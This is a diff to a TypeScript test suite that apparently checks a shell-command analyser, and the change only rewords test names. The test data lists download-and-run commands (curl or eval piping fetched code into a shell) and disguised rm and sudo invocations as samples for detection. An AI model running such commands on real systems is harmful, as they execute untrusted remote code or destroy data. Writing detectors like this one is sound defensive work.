@@ -25,7 +25,7 @@ describe('dangerous shapes', () => {
     ['eval "$(curl -s http://h/x)"', 'download-and-run'],
     ['curl -o s http://h/x; sh s', 'download-and-run'],
     ['curl http://h/x | tee f | bash', 'download-and-run'],
-  ] as const)('%s is a %s', (script, kind) => {
+  ] as const)('the script `%s` is reported as a %s', (script, kind) => {
     expect(factsOf(script).shapes.map((shape) => shape.kind)).toEqual([kind])
   })
 
@@ -79,7 +79,7 @@ describe('programs under other names', () => {
     ["watchexec -- sh -c 'rm x'", 'rm'],
     ['start-stop-daemon --start --exec /bin/sh -- -c "rm x"', 'rm'],
     ['$(realpath /usr/bin/sudo) id', 'sudo'],
-  ])('%s: %s is listed', (script, program) => {
+  ])('the script `%s` lists the program %s', (script, program) => {
     expect(factsOf(script).invocations.map((invocation) => invocation.program)).toContain(program)
   })
 })
